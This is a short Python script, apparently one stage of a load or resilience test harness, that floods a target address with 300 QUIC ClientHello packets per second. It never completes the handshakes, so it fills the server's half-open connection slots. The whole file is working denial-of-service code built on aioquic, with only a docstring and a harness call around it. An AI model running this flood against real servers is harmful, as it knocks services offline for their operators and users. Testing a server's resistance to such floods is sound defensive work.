"""300 ClientHellos a second, each a QUIC connection that is never gone on with: they take all half-open places."""

from __future__ import annotations

import asyncio
import socket
import sys
import time

import stage
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection

A_SECOND = 300


async def attack(address: str, until: float) -> None:
    host, port = address.split(":")
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["tslt/1"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sent, started = 0, time.monotonic()
        while time.monotonic() < until:
            quic = QuicConnection(configuration=configuration)
            quic.connect((host, int(port)), now=time.monotonic())
            for data, _ in quic.datagrams_to_send(now=time.monotonic()):
                sender.sendto(data, (host, int(port)))
            sent += 1
            await asyncio.sleep(max(0.0, started + sent / A_SECOND - time.monotonic()))


if __name__ == "__main__":
    sys.exit(stage.main(attack, transport="quic", most_mib=64))
